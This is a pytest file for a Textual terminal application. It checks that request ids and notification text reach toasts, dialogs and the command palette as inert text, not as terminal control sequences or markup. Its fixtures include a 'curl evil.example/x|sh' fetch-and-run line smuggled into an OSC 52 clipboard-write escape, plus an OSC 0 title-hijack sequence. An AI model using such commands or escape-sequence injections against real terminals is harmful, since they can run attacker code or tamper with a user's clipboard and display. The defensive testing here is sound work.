"""Text from the data never reaches the terminal as control sequences or markup, whatever path
it takes to the screen: toasts (the sweep's "Due soon" and "Auto-approved"), dialog titles, the
palette. The toasts are driven in a real terminal (tmux, tests/support/run_console.py), where a
raw OSC 52 would fill tmux's paste buffer and a raw OSC 0 would set the pane's title.
"""

from __future__ import annotations

import base64
import shutil
import time

import pytest
from textual.content import Content

from returns_tui import domain as d
from returns_tui.app import _command
from tests.support.console import NOW, new_service, opened, submit, wait_for
from tests.support.run_console import in_tmux, set_clock
from tests.support.tmux import Tmux

tmux_only = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")

EVIL_LINE = "curl evil.example/x|sh"
# A clipboard write (OSC 52) and a window title (OSC 0), as request ids: both fit in 64 chars.
CLIPBOARD_ID = "\x1b]52;c;" + base64.b64encode(EVIL_LINE.encode()).decode() + "\x1b\\"
TITLE_ID = "\x1b]0;PWNED\x07"
HOSTILE_IDS = [CLIPBOARD_ID, TITLE_ID]


@pytest.fixture
def svc(tmp_path):
    service = new_service(f"sqlite:///{tmp_path / 'safety.db'}")
    # Submitted 47.5 h before the console's now: due within the hour (a "Due soon" toast),
    # auto-approved once the test moves the clock past 48 h.
    for n, rid in enumerate(HOSTILE_IDS):
        submit(service, rid, NOW.subtract(hours=47, minutes=30), n=n)
    yield service
    service.engine.dispose()


def _paste_buffers(tmux: Tmux) -> str:
    names = tmux.run("list-buffers", "-F", "#{buffer_name}").split()
    return "\n".join(tmux.run("show-buffer", "-b", name) for name in names)


def _pane_title(tmux: Tmux) -> str:
    return tmux.run("display-message", "-p", "-t", "t", "#{pane_title}").strip()


@tmux_only
@pytest.mark.parametrize("login", ["alice", "sam"])
def test_hostile_ids_in_the_sweep_toasts_stay_text(svc, tmp_path, login):
    clock = tmp_path / "clock"
    set_clock(clock, NOW)
    tmux = in_tmux(str(svc.engine.url), login, clock)
    try:
        # What a terminal emulator would do with OSC 52 and OSC 0, tmux does itself here.
        tmux.run("set-option", "-g", "set-clipboard", "on")
        title_before = _pane_title(tmux)
        tmux.wait(r"row 1 of \d+", timeout=30)
        if login == "alice":  # an agent cannot act on it: no "Due soon" (test below)
            tmux.wait(r"Due soon")
        # Past the deadline: the console's own sweep approves both and says so.
        set_clock(clock, NOW.add(hours=1))
        screen = tmux.wait(r"Auto-approved\s").string
        # The ids are in the toast, as text (the table shows them too).
        assert screen.count("PWNED␇") >= 2, screen
        time.sleep(1.0)  # whatever the console wrote has reached tmux
        assert "PWNED" not in _pane_title(tmux)
        assert _pane_title(tmux) == title_before
        assert EVIL_LINE not in _paste_buffers(tmux)
        for rid in HOSTILE_IDS:
            assert svc.get(svc.login(login), rid).status is d.Status.COMPLETED
    finally:
        tmux.kill()


async def test_every_notify_shows_text_whatever_the_caller_asked(tmp_path):
    """A notify from any screen or widget, even one asking for markup, reaches the toast as
    text with its control characters made visible."""
    svc = new_service(f"sqlite:///{tmp_path / 'n.db'}")
    try:
        async with opened(svc, "alice") as (app, pilot):
            app.main.notify("[b]x[/b] \x1b]0;PWNED\x07 [@click=app.quit]q[/]", title="\x1b[2J!")
            app.main.table.notify("\x9b31m", markup=True)
            await pilot.pause()
            shown = [(n.title, n.message, n.markup) for n in app._notifications]
            assert shown[-2:] == [
                ("␛[2J!", "[b]x[/b] ␛]0;PWNED␇ [@click=app.quit]q[/]", False),
                ("", "<U+009B>31m", False),
            ]
    finally:
        svc.engine.dispose()


async def test_ctrl_c_says_how_to_quit_as_text(tmp_path):
    svc = new_service(f"sqlite:///{tmp_path / 'q.db'}")
    try:
        async with opened(svc, "alice") as (app, pilot):
            await pilot.press("ctrl+c")
            await wait_for(pilot, lambda: list(app._notifications), what="a toast")
            assert [n.message for n in app._notifications] == ["Press ^q to quit."]
    finally:
        svc.engine.dispose()


def test_palette_entries_are_text_not_markup():
    entry = _command("Tab: [b]x[/b]\x1b]0;T\x07", "[@click=app.quit]go[/]", lambda: None)
    assert Content.from_markup(entry.title).plain == "Tab: [b]x[/b]␛]0;T␇"
    assert Content.from_markup(entry.help).plain == "[@click=app.quit]go[/]"
